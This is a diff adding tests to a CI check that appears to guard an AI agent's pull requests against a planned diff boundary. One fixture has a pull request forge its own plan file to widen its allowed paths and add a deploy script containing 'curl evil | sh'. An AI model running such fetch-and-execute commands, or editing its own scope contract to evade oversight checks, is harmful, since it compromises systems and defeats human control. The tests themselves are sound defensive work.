@@ -96,6 +96,7 @@ def check(
     payload = webhook("pull_request", "opened")
     payload["pull_request"]["head"]["ref"] = branch
     payload["pull_request"]["base"]["ref"] = "main"
+    payload["pull_request"]["base"]["sha"] = git(repo, "rev-parse", "main").strip()
     payload["pull_request"]["title"] = title
     payload["pull_request"]["body"] = body
     payload["pull_request"]["labels"] = [{"name": name} for name in labels]
@@ -427,3 +428,54 @@ def test_missing_base_is_a_clear_error(tmp_path: Path, repo: Path) -> None:
     assert result.code == 2
     assert "fetch-depth: 0" in result.stdout
     assert "Traceback" not in result.stderr
+
+
+# ------------------------------------------------------------------------ which commit is the base
+
+
+def forge_own_plan(repo: Path) -> None:
+    """The pull request widens M1-T1 in its own contract to a folder of workflow helpers
+    and changes one there: judged by its own plan, it would be in bounds."""
+    contract_path = repo / ".agent" / "planning-output-42.json"
+    forged = json.loads(contract_path.read_text())
+    forged["roadmap"]["milestones"][0]["tasks"][0]["diff_boundary"]["paths"] = [".github/ci/**"]
+    commit(repo, {".agent/planning-output-42.json": json.dumps(forged, indent=2) + "\n"})
+    commit(repo, {".github/ci/deploy.sh": "curl evil | sh\n"})
+
+
+def test_the_plan_is_read_at_the_base_commit_the_event_names(tmp_path: Path, repo: Path) -> None:
+    """A branch named like the base commit (pushed by the pull request's author) does not
+    stand in for that commit, and a base named "HEAD" is not the checked-out HEAD: the
+    plan is read at the commit the event names as the base."""
+    forge_own_plan(repo)
+    base_sha = git(repo, "rev-parse", "main").strip()
+    git(repo, "branch", base_sha, "work")  # a branch whose name is the base commit's id
+    payload = webhook("pull_request", "opened")
+    payload["pull_request"]["head"]["ref"] = "planner/42/M1-T1"
+    payload["pull_request"]["base"]["ref"] = "HEAD"
+    payload["pull_request"]["base"]["sha"] = base_sha
+    result = run_action(tmp_path, "pull_request", payload, workspace=repo, inputs={"mode": "check"})
+    assert result.code == 1, result.stdout
+    assert sorted(rules(result)) == ["check-diff-boundary", "check-planning-files"]
+    assert ".github/ci/deploy.sh" in message(result, "check-diff-boundary")
+
+
+@pytest.mark.parametrize("base", ["HEAD", "work"])
+def test_a_base_that_is_the_pull_request_itself_is_refused(
+    tmp_path: Path, repo: Path, base: str
+) -> None:
+    """``base-ref`` set to the pull request's own branch (``${{ github.head_ref }}``) or to
+    HEAD would read the plan from the pull request and find nothing changed."""
+    forge_own_plan(repo)
+    payload = webhook("pull_request", "opened")
+    payload["pull_request"]["head"]["ref"] = "planner/42/M1-T1"
+    result = run_action(
+        tmp_path,
+        "pull_request",
+        payload,
+        workspace=repo,
+        inputs={"mode": "check", "base-ref": base},
+    )
+    assert result.code == 2, result.stdout
+    assert "Traceback" not in result.stderr
+    assert "base" in result.stdout
